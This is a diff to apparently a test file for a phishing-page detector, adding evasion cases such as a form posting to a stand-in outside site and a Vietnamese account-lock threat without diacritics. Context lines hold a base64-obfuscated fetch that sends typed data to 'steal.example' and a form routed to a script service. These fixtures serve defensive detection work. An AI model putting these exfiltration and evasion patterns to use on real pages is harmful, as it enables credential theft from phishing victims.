@@ -110,6 +110,16 @@ const EVASIONS: readonly [string, string, (page: Partial<PageFacts>) => Partial<
     (p) => ({ ...p, script: `fetch(atob("${btoa("https://steal.example/in.php")}"),{body:v})` }),
   ],
   [
+    "what is typed goes to another site, whose answer a hidden frame swallows",
+    "sink:other-site",
+    (p) => ({ ...p, forms: [{ action: "https://nhan-tin.example.net/x.php", around: "" }] }),
+  ],
+  [
+    "threats without diacritics",
+    "text:threat",
+    (p) => ({ ...p, text: "Tai khoan cua quy khach se bi khoa vinh vien" }),
+  ],
+  [
     "what is typed goes into a sheet",
     "sink:form-service",
     (p) => ({ ...p, forms: [{ action: "https://script.google.com/macros/s/x/exec", around: "" }] }),
